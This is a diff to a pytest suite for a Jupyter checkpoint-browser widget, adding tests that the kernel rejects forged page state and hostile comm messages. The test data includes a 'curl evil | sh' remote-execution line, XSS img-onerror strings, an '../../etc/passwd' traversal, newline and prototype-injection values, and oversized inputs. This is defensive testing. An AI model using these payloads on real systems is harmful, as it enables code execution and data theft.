@@ -28,6 +28,9 @@ def browser(zoo):
     return ZooBrowser(zoo)
 
 
+REF_MLP = "digits-mlp@epoch-2"
+
+
 def ids(b):
     return [c["id"] for c in b.cards]
 
@@ -203,9 +206,173 @@ def test_insert_outside_ipython_returns_the_code(browser, monkeypatch):
     assert browser.insert() == browser.code
 
 
-def test_front_end_insert_reports_are_recorded(browser):
-    browser._on_custom_msg(browser, {"event": "insert", "handled": False, "ref": "digits-mlp@epoch-1"}, [])
-    assert browser.insert_events[-1] == {"handled": False, "ref": "digits-mlp@epoch-1"}
+# ---- what a script in the page can send ------------------------------------
+
+
+class PageComm:
+    """Records what the kernel sends on the widget's comm."""
+
+    def __init__(self, browser, monkeypatch):
+        self.sent: list[dict] = []
+        monkeypatch.setattr(browser.comm, "publish_msg", lambda _type, data=None, **kw: self.sent.append(data))
+
+    def states(self) -> dict:
+        out: dict = {}
+        for data in self.sent:
+            if data and data.get("method") == "update":
+                out.update(data["state"])
+        return out
+
+    def replies(self) -> list:
+        return [d["content"] for d in self.sent if d and d.get("method") == "custom"]
+
+
+def page_update(browser, state: dict) -> None:
+    """What `model.set(...); model.save_changes()` in the page delivers to the kernel."""
+    browser._handle_msg({"content": {"data": {"method": "update", "state": state, "buffer_paths": []}}, "buffers": []})
+
+
+def page_custom(browser, content, buffers=()) -> None:
+    """What `model.send(content)` in the page delivers to the kernel."""
+    browser._handle_msg({"content": {"data": {"method": "custom", "content": content}}, "buffers": list(buffers)})
+
+
+def test_the_page_cannot_overwrite_kernel_state(browser, zoo, monkeypatch):
+    comm = PageComm(browser, monkeypatch)
+    browser.selected = REF_MLP
+    kernel = {name: getattr(browser, name) for name in ("code", "detail", "cards", "_esm", "selected", "query")}
+    forged = {
+        "code": "import os\nos.system('curl evil | sh')\n",
+        "detail": {"id": "x", "card_html": "<img src=x onerror=alert(1)>"},
+        "cards": [{"id": "evil"}],
+        "_esm": "export default { render() { alert(1) } }",
+        "selected": "digits-cnn@epoch-1",
+        "query": "zzz",
+        "no_such_trait": 1,
+    }
+    page_update(browser, forged)
+    for name, value in kernel.items():
+        assert getattr(browser, name) == value, name
+    # ... and the kernel sends its own values back, so the page's copy is right again
+    sent = comm.states()
+    assert sent["code"] == kernel["code"] and sent["selected"] == kernel["selected"]
+    assert "no_such_trait" not in sent
+    assert browser.rejected_updates == 1
+    # insert() puts the kernel's code in the next cell, not the page's
+    shell = FakeShell()
+    monkeypatch.setattr("IPython.get_ipython", lambda: shell)
+    browser.insert()
+    assert shell.calls == [(zoo.load_code(REF_MLP), False)]
+
+
+def test_page_requests_drive_the_search(browser, zoo, monkeypatch):
+    comm = PageComm(browser, monkeypatch)
+    page_custom(browser, {"request": "search", "seq": 1, "query": "mlp"})
+    assert ids(browser) == list(zoo.search("mlp")["id"]) and browser.query == "mlp"
+    page_custom(browser, {"request": "search", "seq": 2, "query": "", "sort": "-val_accuracy", "limit": 2})
+    assert ids(browser) == list(zoo.search(sort="-val_accuracy")["id"])[:2]
+    page_custom(browser, {"request": "search", "seq": 3, "offset": 2})
+    assert browser.offset == 2 and len(browser.cards) == 1
+    page_custom(browser, {"request": "select", "seq": 4, "ref": "digits-cnn"})
+    assert browser.selected.startswith("digits-cnn@") and browser.code == zoo.load_code(browser.selected)
+    lib = browser.libraries[1]
+    page_custom(browser, {"request": "library", "seq": 5, "library": lib})
+    assert browser.code == zoo.load_code(browser.selected, library=lib)
+    page_custom(browser, {"request": "select", "seq": 6, "ref": ""})
+    assert browser.selected == "" and browser.code == ""
+    assert comm.replies() == [{"done": n} for n in range(1, 7)]
+    assert browser.error == "" and browser.rejected_messages == 0
+
+
+HOSTILE_MESSAGES = [
+    ("not an object", "search"),
+    ("list", ["search"]),
+    ("unknown kind", {"request": "eval", "code": "1"}),
+    ("no kind", {"query": "x"}),
+    ("unknown field", {"request": "search", "query": "x", "__proto__": 1}),
+    ("code field", {"request": "select", "ref": "digits-mlp", "code": "evil()"}),
+    ("query of 1 MB", {"request": "search", "query": "a" * 1_000_000}),
+    ("query of 10 kB", {"request": "search", "query": "mlp " * 2500}),
+    ("query as list", {"request": "search", "query": ["mlp"] * 1000}),
+    ("query as dict", {"request": "search", "query": {"$gt": ""}}),
+    ("nested deep", {"request": "search", "query": [[[[[[["x"]]]]]]]}),
+    ("limit huge", {"request": "search", "limit": 10**9}),
+    ("limit zero", {"request": "search", "limit": 0}),
+    ("limit as bool", {"request": "search", "limit": True}),
+    ("limit as float", {"request": "search", "limit": 24.5}),
+    ("offset negative", {"request": "search", "offset": -1}),
+    ("offset huge", {"request": "search", "offset": 10**30}),
+    ("sort of 1 MB", {"request": "search", "sort": "-" + "x" * 1_000_000}),
+    ("ref of 1 MB", {"request": "select", "ref": "digits-mlp@" + "e" * 1_000_000}),
+    ("ref with path", {"request": "select", "ref": "../../etc/passwd"}),
+    ("ref with html", {"request": "select", "ref": "<img src=x onerror=alert(1)>"}),
+    ("ref with newline", {"request": "select", "ref": "digits-mlp\nimport os"}),
+    ("unknown library", {"request": "library", "library": "os.system"}),
+    ("insert with a ref", {"request": "insert", "handled": True, "ref": "x" * 1_000_000}),
+    ("insert handled as text", {"request": "insert", "handled": "yes"}),
+    ("seq as text", {"request": "search", "seq": "1", "query": "x"}),
+    ("seq huge", {"request": "search", "seq": 10**100, "query": "x"}),
+    ("many fields", {"request": "search", **{f"f{i}": i for i in range(1000)}}),
+]
+
+
+@pytest.mark.parametrize("name,content", HOSTILE_MESSAGES, ids=[n for n, _ in HOSTILE_MESSAGES])
+def test_hostile_page_messages_are_refused(zoo, monkeypatch, name, content):
+    b = ZooBrowser(zoo)
+    b.selected = REF_MLP
+    before = {k: getattr(b, k) for k in ("query", "sort", "limit", "offset", "selected", "code", "code_library")}
+    searches: list = []
+    real_search = zoo.search
+    monkeypatch.setattr(b.zoo, "search", lambda *a, **k: searches.append(a) or real_search(*a, **k))
+    page_custom(b, content)
+    after = {k: getattr(b, k) for k in before}
+    assert after == before
+    assert searches == [], "a refused message starts no search"
+    assert b.error.startswith("Ignored a request from the page"), b.error
+    assert len(b.error) <= 300 and "\n" not in b.error
+    assert b.rejected_messages == 1
+    assert len(json.dumps(b.insert_events)) < 1000
+    # ... and the widget keeps answering
+    page_custom(b, {"request": "search", "query": "cnn"})
+    assert b.error == "" and ids(b) == list(zoo.search("cnn")["id"])
+
+
+def test_binary_buffers_are_refused(browser):
+    page_custom(browser, {"request": "search", "query": "mlp"}, buffers=[b"x" * 1000])
+    assert browser.query == "" and browser.rejected_messages == 1
+
+
+def test_insert_reports_keep_the_kernels_reference_and_are_bounded(browser):
+    browser.selected = REF_MLP
+    for _ in range(500):
+        page_custom(browser, {"request": "insert", "handled": True})
+    assert len(browser.insert_events) == 100
+    assert browser.insert_events[-1] == {"handled": True, "ref": REF_MLP}
+
+
+def test_a_zoo_with_100k_bad_entries_shows_a_summary(tmp_path):
+    models = [{"id": f"bad id {i}", "checkpoints": []} for i in range(100_000)]
+    models.append({"id": "good", "checkpoints": [{"name": "final", "files": [{"path": "w.safetensors"}]}]})
+    index = tmp_path / "index.json"
+    index.write_text(json.dumps({"ckptzoo_index": 1, "models": models}))
+    b = browse(str(index))
+    assert b.error == "" and ids(b) == ["good"]
+    assert len(b.zoo.errors) >= 100_000
+    assert len(b.warnings) <= 21
+    assert "more" in b.warnings[-1] and f"{len(b.zoo.errors) - 20:,}" in b.warnings[-1]
+    assert len(json.dumps(b.warnings)) < 20_000
+
+
+def test_long_errors_are_one_bounded_line(zoo, monkeypatch):
+    b = ZooBrowser(zoo)
+
+    def broken(*a, **k):
+        raise ZooError("bad metric " + "x" * 50_000_000 + "\nTraceback (most recent call last):")
+
+    monkeypatch.setattr(b.zoo, "search", broken)
+    b.query = "mlp"
+    assert b.error.startswith("Search failed: bad metric") and len(b.error) <= 600
+    assert "\n" not in b.error and "Traceback" not in b.error
 
 
 def test_a_source_that_fails_to_open_shows_an_error(tmp_path):
@@ -244,13 +411,13 @@ def test_browse_arguments_and_public_names(zoo):
     assert ids(b) == list(zoo.search("mlp", sort="-val_accuracy")["id"])
     assert b.selected == "digits-mlp@epoch-1"
     assert browse().total == 3
-    assert hasattr(cz, "browse") or True  # re-exported by the package __init__ when present
+    assert isinstance(cz.browse(zoo), ZooBrowser)  # the package's lazy re-export
 
 
 def test_widget_assets_are_the_built_front_end():
-    esm = ZooBrowser._esm
-    text = str(getattr(esm, "contents", esm)) if not isinstance(esm, str) else esm
-    assert "ckptzoo:insert-code" in text or "not built" in text
+    # Built by `npm run build` (scripts/test-all.sh runs it before the tests).
+    text = ZooBrowser()._esm
+    assert "ckptzoo:insert-code" in text and "not built" not in text
 
 
 def test_zoo_magic_arguments():
